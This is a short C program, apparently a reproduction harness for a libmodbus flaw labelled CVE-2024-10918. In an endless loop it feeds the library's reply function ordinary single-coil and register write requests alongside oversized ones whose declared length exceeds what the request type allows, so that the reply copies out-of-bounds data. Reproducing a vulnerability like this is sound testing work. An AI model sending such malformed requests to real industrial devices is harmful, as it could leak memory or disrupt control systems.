/* A Modbus server in one process with its client, which never stops: it answers ordinary requests, and one of which the
 * caller says that it is longer than its kind can be (CVE-2024-10918: the answer is copied from it). */
#include <modbus.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static modbus_t *context;
static modbus_mapping_t *mapping;
static int sockets[2];

/* The length of the answer to a write of one coil, or register, of `length` bytes. */
static long answer(int function, int length)
{
    uint8_t request[MODBUS_TCP_MAX_ADU_LENGTH] = {0, 1, 0, 0, 0, 6, 0xff, function, 0, 3, 0xff, 0}, reply[1024];
    if (modbus_reply(context, request, length, mapping) < 0)
        return -1;
    return recv(sockets[1], reply, sizeof reply, 0);
}

int main(void)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    context = modbus_new_tcp("127.0.0.1", 1502);
    mapping = modbus_mapping_new(8, 8, 8, 8);
    if (!context || !mapping || socketpair(AF_UNIX, SOCK_SEQPACKET, 0, sockets))
        return 1;
    modbus_set_socket(context, sockets[0]);
    for (unsigned long rounds = 0;; rounds++) {
        long coil = answer(5, 12), register_ = answer(6, 12), large = answer(5, 200), huge = answer(6, 200);
        if (rounds % 100 == 0)
            printf("ordinary %ld %ld too long %ld %ld\n", coil, register_, large, huge);
        usleep(500);
    }
}
